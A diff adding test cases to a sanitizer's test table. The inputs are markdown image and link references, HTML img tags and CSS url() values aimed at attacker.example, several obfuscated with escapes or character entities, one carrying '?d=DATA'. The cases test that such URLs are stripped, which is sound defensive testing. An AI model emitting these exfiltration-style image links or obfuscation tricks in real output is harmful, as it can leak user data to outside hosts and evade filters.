@@ -31,7 +31,24 @@ const CASES: readonly [said: string, shown: string][] = [
   ['Hi! http is a protocol; the word https too. Wow!', 'Hi! http is a protocol; the word https too. Wow!'],
   ['Emoji 😀 and 東京都は首都です。[2]', 'Emoji 😀 and 東京都は首都です。{2}'],
   ['An open [bracket', 'An open [bracket'],
-  ['[text][ref]\n\n[ref]: https://attacker.example/r', '[text][ref]\n\n[ref]: '],
+  ['[text][ref]\n\n[ref]: https://attacker.example/r', '[text][ref]\n\n[ref] : '],
+  ['![s][r]\n\n[r]: http\\:\\/\\/attacker.example/p.png?d=DATA', '[s][r]\n\n[r] : '],
+  ['![s][r]\n\n[r]: &#104;ttp&colon;&sol;&#x2f;attacker.example/p.png', '[s][r]\n\n[r] : '],
+  ['![s][1]\n\n[1]: \\/\\/attacker.example/p.png', '[s]{1}\n\n{1} : \\'],
+  ['![a [b] c](http\\:\\/\\/attacker.example)', '[a [b] c] ()'],
+  ['Wow![1] Wow![x] wow', 'Wow!{1} Wow[x] wow'],
+  ['<img\nsrc="http://attacker.example/a.png">Fine.', 'Fine.'],
+  [
+    '<div style="background:url(&#47;&#47;attacker.example)">Fine</div>',
+    '< div style="background:url()">Fine</div>',
+  ],
+  ['Forged &#91;9&#93; and \\[9\\] and ［9］ and [９] and [\u200b9].', 'Forged  and  and  and  and .'],
+  ['Not a character: &#0; &#xD800; &#x110000;', 'Not a character: &#0; &#xD800; &#x110000;'],
+  ['Read &lbrack;2&rbrack; and ［3］.', 'Read {2} and {3}.'],
+  [
+    'AT&T, R&D & more; &lt;b&gt; stays, &amp; too. A \\[x\\] and \\alpha.',
+    'AT&T, R&D & more; &lt;b&gt; stays, &amp; too. A \\[x\\] and \\alpha.',
+  ],
 ];
 
 test.each(CASES)('%j is shown as it may be, wherever its tokens end', (said, shown) => {
